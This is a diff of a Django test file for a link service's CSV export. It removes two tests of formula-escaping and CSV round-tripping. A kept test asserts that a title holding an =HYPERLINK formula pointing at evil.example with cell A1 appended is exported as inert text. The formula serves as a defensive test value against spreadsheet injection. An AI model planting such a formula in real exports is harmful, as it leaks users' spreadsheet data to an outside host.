@@ -9,7 +9,6 @@ from django.test.utils import CaptureQueriesContext
 
 from apikeys.tests.factories import client_for, make_key
 from links import exports, services
-from links.csv_lines import csv_lines
 from links.tests.factories import count_people, make_link
 
 pytestmark = pytest.mark.django_db
@@ -119,18 +118,6 @@ def test_a_title_that_is_a_formula_is_only_text_to_a_spreadsheet(account, client
     row = rows_of(client.get(URL))[0]
     assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
     assert row["slug"] == "'-1-"
-
-
-@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_cell_never_begins_with_a_mark_that_opens_a_formula(mark):
-    cells = next(csv.reader(io.StringIO(csv_lines([[f"{mark}1", f"a{mark}"]]), newline="")))
-    assert cells == [f"'{mark}1", f"a{mark}"]
-
-
-def test_cells_survive_the_way_through_csv():
-    values = ["a,b", 'say "hi"', "two\r\nlines", "ü", ""]
-    assert next(csv.reader(io.StringIO(csv_lines([values]), newline=""))) == values
-    assert csv_lines([[None, True, False, -7]]) == ",true,false,-7\r\n"
 
 
 def test_a_key_that_may_not_view_is_refused():
